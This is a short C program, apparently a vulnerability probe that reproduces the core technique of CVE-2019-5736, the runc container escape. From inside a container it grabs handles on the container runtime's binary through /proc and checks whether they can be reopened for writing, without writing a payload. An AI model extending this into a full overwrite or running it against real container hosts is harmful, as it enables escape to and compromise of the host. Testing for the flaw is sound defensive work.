/* CVE-2019-5736 in miniature: inside a container, grab an O_PATH handle on every other
 * process's /proc/<pid>/exe that is not one of the container's own programs (those given as
 * arguments after the duration) — that is, the runtime's binary, whatever its path looks like
 * from here — for a while; then try to reopen each one for writing, as the real exploit does
 * once the runtime has exited.  Prints one line per handle: "<target> <result>", then
 * "grabbed N". */
#define _GNU_SOURCE
#include <dirent.h>
#include <stdbool.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv)
{
  double seconds = argc > 1 ? atof(argv[1]) : 5;
  int fds[256];
  char names[256][256];
  int n = 0;
  struct timespec start, now;
  clock_gettime(CLOCK_MONOTONIC, &start);
  do {
    DIR *d = opendir("/proc");
    struct dirent *de;
    while (d && (de = readdir(d)) != NULL && n < 256) {
      if (de->d_name[0] < '0' || de->d_name[0] > '9' || atoi(de->d_name) == getpid())
        continue;
      char path[64], target[256];
      snprintf(path, sizeof(path), "/proc/%s/exe", de->d_name);
      ssize_t l = readlink(path, target, sizeof(target) - 1);
      if (l <= 0)
        continue;
      target[l] = '\0';
      int fd = open(path, O_PATH | O_CLOEXEC);
      if (fd < 0)
        continue;
      struct stat st;
      bool own = fstat(fd, &st) < 0;
      for (int a = 2; a < argc && !own; a++) {
        struct stat o;
        own = stat(argv[a], &o) == 0 && o.st_dev == st.st_dev && o.st_ino == st.st_ino;
      }
      if (own) {
        close(fd);
        continue;
      }
      fds[n] = fd;
      snprintf(names[n], sizeof(names[n]), "%s", target);
      n++;
    }
    if (d)
      closedir(d);
    clock_gettime(CLOCK_MONOTONIC, &now);
  } while ((now.tv_sec - start.tv_sec) + (now.tv_nsec - start.tv_nsec) / 1e9 < seconds);
  sleep(1); /* the runtime processes have exited: the binary is no longer busy */
  for (int i = 0; i < n; i++) {
    char path[64];
    snprintf(path, sizeof(path), "/proc/self/fd/%d", fds[i]);
    int w = open(path, O_WRONLY | O_CLOEXEC);
    printf("%s %s\n", names[i], w >= 0 ? "WRITABLE" : strerror(errno));
    if (w >= 0)
      close(w);
  }
  printf("grabbed %d\n", n);
  return 0;
}
